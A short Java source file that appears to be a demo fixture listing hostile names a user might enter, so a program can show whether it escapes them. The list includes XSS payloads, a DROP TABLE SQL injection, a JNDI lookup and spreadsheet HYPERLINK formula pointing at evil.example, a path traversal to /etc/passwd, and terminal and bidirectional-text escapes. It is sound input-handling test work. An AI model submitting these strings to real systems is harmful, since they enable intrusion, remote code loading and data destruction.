package dev.freeway.controlplane.demo;

import java.util.List;

/** Names that people can give and programs trip over: each shows whether one was escaped. */
final class Hostile {
  static final List<String> NAMES =
      List.of(
          "<script>alert('freeway')</script>",
          "\"><img src=x onerror=alert(1)>",
          "'; DROP TABLE resources; --",
          "O'Brien's \"test\" server",
          "\u001b[31mred\u001b[0m and \u001b[2Jgone",
          "=HYPERLINK(\"http://evil.example\",\"click\")",
          "+1-800,comma;semicolon",
          "\u202egnp.exe reversed",
          "two\nlines\tand a tab",
          "日本語のサーバー 🚀",
          "%s%n${jndi:ldap://evil.example}",
          "../../etc/passwd",
          " ".repeat(3) + "spaces around" + " ".repeat(3),
          "NULL");

  private Hostile() {}
}
